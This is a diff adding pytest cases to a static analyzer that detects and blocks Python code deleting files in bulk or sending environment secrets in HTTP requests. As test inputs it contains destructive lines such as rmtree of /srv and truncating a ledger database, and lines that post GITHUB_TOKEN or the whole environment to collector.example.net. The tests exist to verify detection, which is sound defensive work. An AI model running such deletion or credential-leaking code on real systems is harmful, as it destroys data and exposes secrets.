@@ -258,3 +258,163 @@ def test_newer_python_syntax_is_read_statement_by_statement_through_libcst() -> 
 def test_a_real_syntax_error_is_still_one_error() -> None:
     analysis = run("import shutil\nshutil.rmtree('/srv')\ndef broken(:\n    pass\n")
     assert [e.message.split(":")[0] for e in analysis.errors] == ["syntax error"]
+
+
+# -- removing files: how much a removal removes (the `scope` detail) ------------------------------
+
+REMOVALS = "import os, glob, shutil\nfrom pathlib import Path\n"
+
+
+@pytest.mark.parametrize("line, rule, scope, targets, resolved", [
+    ('os.remove("notes.txt")', "py.fs-delete", "single", ("notes.txt",), "yes"),
+    ('Path("reports/q3.xlsx").unlink()', "py.fs-delete", "single", ("reports/q3.xlsx",), "yes"),
+    ('Path("empty_dir").rmdir()', "py.fs-delete", "single", ("empty_dir",), "yes"),
+    ('os.unlink(f"exports/{name}.csv")', "py.fs-delete", "single", ("exports/{}.csv",), "partial"),
+    ("os.remove(path)", "py.fs-delete", "single", ("path",), "no"),
+    ('shutil.rmtree("build")', "py.fs-delete-tree", "bulk", ("build",), "yes"),
+    ('for f in glob.glob("exports/*.csv"):\n    os.remove(f)', "py.fs-delete", "bulk", ("exports/*.csv",), "yes"),
+    ('[os.remove(p) for p in Path(".").glob("*.csv")]', "py.fs-delete", "bulk", ("*.csv",), "yes"),
+    ('for p in Path("data").rglob("*.tmp"):\n    p.unlink()', "py.fs-delete", "bulk", ("data/**/*.tmp",), "yes"),
+    ('for n in os.listdir("out"):\n    os.remove(os.path.join("out", n))', "py.fs-delete", "bulk", ("out/*",), "yes"),
+    ('for e in os.scandir("cache"):\n    os.unlink(e.path)', "py.fs-delete", "bulk", ("cache/*",), "yes"),
+    ('for root, dirs, files in os.walk("uploads"):\n    for f in files:\n        os.remove(os.path.join(root, f))',
+     "py.fs-delete", "bulk", ("uploads/**",), "yes"),
+    ('for d in Path(base).iterdir():\n    shutil.rmtree(d)', "py.fs-delete-tree", "bulk", ("{Path(base)}/*",),
+     "partial"),
+    ('list(map(os.remove, glob.glob("logs/*.log")))', "py.fs-delete", "bulk", ("logs/*.log",), "yes"),
+    ('stale = [p for p in glob.glob("*.bak") if p]\nfor f in stale:\n    os.remove(f)', "py.fs-delete", "bulk",
+     ("*.bak",), "yes"),
+    ('def rm(p):\n    os.remove(p)\nfor f in glob.glob("*.log"):\n    rm(f)', "py.fs-delete", "bulk", ("*.log",),
+     "yes"),
+    ("for f in leftovers:\n    os.remove(f)", "py.fs-delete", "bulk", ("f",), "no"),
+    ('for i in range(3):\n    os.remove(f"app.log.{i}")', "py.fs-delete", "bulk", ("app.log.{}",), "partial"),
+    ('for f in ["a.txt", "b.txt"]:\n    os.remove(f)', "py.fs-delete", "single", ("a.txt", "b.txt"), "yes"),
+], ids=["os.remove", "Path.unlink", "Path.rmdir", "f-string", "variable", "rmtree", "glob-loop",
+        "Path.glob-comprehension", "rglob", "listdir", "scandir", "walk", "iterdir-unknown-base", "map-over-glob",
+        "filtered-listing", "helper-in-a-glob-loop", "loop-over-unknown", "loop-over-range", "loop-over-constants"])
+def test_a_removal_says_how_much_it_removes(line: str, rule: str, scope: str, targets: tuple[str, ...],
+                                             resolved: str) -> None:
+    found = [op for op in ops(REMOVALS + line + "\n") if op.rule == rule and op.detail("scope") == scope
+             and op.targets == targets]
+    assert found, [(op.rule, op.targets, op.details) for op in ops(REMOVALS + line + "\n")]
+    assert found[0].detail("resolved") == resolved
+
+
+def test_a_listing_that_is_only_read_is_no_removal_and_other_rules_carry_no_scope() -> None:
+    assert ops(REMOVALS + 'for f in glob.glob("*.csv"):\n    print(os.path.getsize(f))\n') == []
+    assert ops(REMOVALS + 'names = os.listdir(".")\n[names.remove(n) for n in list(names)]\n') == []
+    truncate = ops(REMOVALS + 'os.truncate("/data/ledger.db", 0)\n')
+    assert [op.rule for op in truncate] == ["py.fs-truncate"] and truncate[0].detail("scope") is None
+
+
+def test_a_temporary_listing_stays_scratch() -> None:
+    text = REMOVALS + ("import tempfile\nwith tempfile.TemporaryDirectory() as tmp:\n"
+                       "    for p in Path(tmp).glob('*.part'):\n        p.unlink()\n")
+    assert [(op.detail("scope"), op.scratch) for op in ops(text)] == [("bulk", True)]
+
+
+def test_a_bulk_removal_blocks_under_the_built_in_policy() -> None:
+    from analyzer.engine import Checker
+    from analyzer.model import Context
+    from analyzer.policy.load import load_policy
+
+    text = REMOVALS + 'for f in glob.glob("exports/*.csv"):\n    os.remove(f)\n'
+    report = Checker(load_policy(), Context()).check_text(text, "python", "clean.py")
+    assert [(f.operation.rule, f.operation.targets, f.action) for f in report.findings] == \
+        [("py.fs-delete", ("exports/*.csv",), "block")]
+
+
+# -- data leaving: where it comes from and where in the request it travels -------------------------
+
+SENDS = "import os, socket, requests, httpx, urllib.request\nfrom requests.auth import HTTPBasicAuth\n"
+GITHUB = 'os.environ["GITHUB_TOKEN"]'
+IN_FSTRING = "os.environ['GITHUB_TOKEN']"
+
+
+@pytest.mark.parametrize("line, host, credential, carrier", [
+    (f'requests.get("https://api.github.com/user", headers={{"Authorization": "token " + {GITHUB}}})',
+     "https://api.github.com", "GITHUB_TOKEN", "auth"),
+    (f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
+     "https://collector.example.net", "GITHUB_TOKEN", "auth"),
+    (f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})', "https://api.github.com",
+     "GITHUB_TOKEN", "body"),
+    (f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")', "https://api.github.com",
+     "GITHUB_TOKEN", "query"),
+    (f'requests.get("https://api.github.com/user", params={{"t": {GITHUB}}})', "https://api.github.com",
+     "GITHUB_TOKEN", "query"),
+    (f'requests.get(f"https://api.github.com/{{{IN_FSTRING}}}/x")', "https://api.github.com", "GITHUB_TOKEN", "url"),
+    (f'requests.get("https://api.github.com/user", auth=HTTPBasicAuth("me", {GITHUB}))', "https://api.github.com",
+     "GITHUB_TOKEN", "auth"),
+    ('requests.get("https://api.github.com/user", auth=("me", os.getenv("GH_TOKEN")))', "https://api.github.com",
+     "GH_TOKEN", "auth"),
+    ('httpx.get("https://api.openai.com/v1/models", headers={"X-Request-Id": os.environ["OPENAI_API_KEY"]})',
+     "https://api.openai.com", "OPENAI_API_KEY", "header"),
+    ('h = {}\nh["X-API-Key"] = os.environ["OPENAI_API_KEY"]\nh["X-Trace"] = os.environ["TRACE_TOKEN"]\n'
+     'httpx.post("https://api.openai.com/v1/x", headers=h, json={"q": 1})', "https://api.openai.com",
+     "OPENAI_API_KEY,TRACE_TOKEN", "auth,header"),
+    (f'requests.post("https://api.github.com/x", headers={{"Authorization": "token " + {GITHUB}}}, '
+     f'files={{"f": {GITHUB}}})', "https://api.github.com", "GITHUB_TOKEN", "auth,file"),
+    (f'urllib.request.urlopen(urllib.request.Request("https://api.github.com/u", '
+     f'headers={{"Authorization": "Bearer " + {GITHUB}}}))', "https://api.github.com", "GITHUB_TOKEN", "auth"),
+], ids=["auth-header", "auth-header-elsewhere", "body", "url-query", "params", "url-path", "HTTPBasicAuth",
+        "auth-tuple", "other-header", "header-mapping-built-up", "auth-and-file", "request-object"])
+def test_a_credential_in_a_request_is_reported_with_where_it_travels(line: str, host: str, credential: str,
+                                                                     carrier: str) -> None:
+    found = [op for op in ops(SENDS + line + "\n") if op.rule == "py.exfil-request"]
+    assert len(found) == 1, found
+    op = found[0]
+    assert (op.detail("host"), op.detail("credential"), op.detail("carrier")) == (host, credential, carrier)
+    assert all(f"environment secret {name}" in (op.detail("source") or "") for name in credential.split(","))
+
+
+@pytest.mark.parametrize("line", [
+    'requests.get("https://api.example.net/items", headers={"X-Region": os.environ["REGION"]})',
+    'requests.get("https://api.example.net/items", params={"home": os.getenv("HOME")})',
+    'requests.get(f"https://api.example.net/items?region={os.environ.get(\'AWS_REGION\')}")',
+    'socket.gethostbyname(os.environ["DB_HOST"])',
+], ids=["header", "params", "url-query", "dns"])
+def test_an_environment_value_that_is_no_secret_is_not_a_source(line: str) -> None:
+    assert ops(SENDS + line + "\n") == []
+
+
+@pytest.mark.parametrize("line, source", [
+    ('requests.post("https://x.example/a", json={"region": os.environ["REGION"]})', None),
+    ('requests.post("https://x.example/a", json={"k": 1})', None),
+    ('requests.post("https://x.example/a", json=dict(os.environ))', "environment secret"),
+    ('requests.post("https://x.example/a", data=str(os.environ.copy()))', "environment secret"),
+    ('requests.post("https://x.example/a", json={"p": os.environ.get("DB_PASSWORD", "")})',
+     "environment secret DB_PASSWORD"),
+    ('requests.post("https://x.example/a", json={"u": os.environ["database_url"]})', "environment secret database_url"),
+    ('name = pick()\nrequests.post("https://x.example/a", json={"v": os.environ[name]})', "environment secret"),
+], ids=["env-value", "constant", "whole-environment", "environment-copy", "get-with-default", "lower-case-name",
+        "unknown-name"])
+def test_a_body_is_sent_and_only_a_source_gives_it_a_source(line: str, source: str | None) -> None:
+    found = [op for op in ops(SENDS + line + "\n") if op.rule == "py.exfil-request"]
+    assert [(op.detail("source"), op.detail("carrier")) for op in found] == [(source, "body")]
+    assert found[0].detail("credential") == (source.split(" ", 2)[2] if source and source.count(" ") > 1 else None)
+
+
+def test_secret_names_come_from_the_secrets_catalogue() -> None:
+    from analyzer.frontends.python.apis import python_catalogue
+
+    catalogue = python_catalogue()
+    globs = load_catalogue().section("secrets")["secret_variables"]
+    assert "*TOKEN*" in globs and catalogue.is_secret_variable("ci_job_token")
+    assert [catalogue.is_secret_variable(n) for n in ("GITHUB_TOKEN", "AWS_SECRET_ACCESS_KEY", "SENTRY_DSN")] == \
+        [True, True, True]
+    assert [catalogue.is_secret_variable(n) for n in ("REGION", "HOME", "AWS_REGION", "PATH")] == \
+        [False, False, False, False]
+
+
+@pytest.mark.parametrize("line", [
+    f'requests.get("https://collector.example.net/u", headers={{"Authorization": "token " + {GITHUB}}})',
+    f'requests.post("https://api.github.com/x", json={{"t": {GITHUB}}})',
+    f'requests.get(f"https://api.github.com/user?access_token={{{IN_FSTRING}}}")',
+], ids=["other-host", "body", "query"])
+def test_a_credential_sent_anywhere_but_its_own_services_authentication_blocks(line: str) -> None:
+    from analyzer.engine import Checker
+    from analyzer.model import Context
+    from analyzer.policy.load import load_policy
+
+    report = Checker(load_policy(), Context()).check_text(SENDS + line + "\n", "python", "send.py")
+    assert [(f.operation.rule, f.action) for f in report.findings] == [("py.exfil-request", "block")]
